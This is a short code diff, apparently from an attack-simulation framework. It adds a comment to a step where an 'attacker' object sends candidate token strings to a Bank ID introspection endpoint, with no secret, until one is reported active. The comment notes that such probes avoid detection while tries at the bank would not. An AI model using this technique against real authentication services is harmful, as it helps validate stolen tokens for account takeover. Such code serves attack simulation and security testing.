@@ -21,6 +21,7 @@ def asks_about_each(stage: Stage) -> None:
     """Ask Bank ID about each of them, without a secret, until it calls one active."""
     if "strings" not in stage.kept:
         raise Stuck("there are no strings yet")
+    # Each try costs nothing, and leaves the token as it is; used at the bank, a wrong one would be noticed.
     for guess in stage.kept["strings"]:
         answer = stage.attacker.ask("POST", f"{stage.here.auth}/introspect", data={"token": guess})
         if answer.status_code == 200 and answer.json().get("active"):
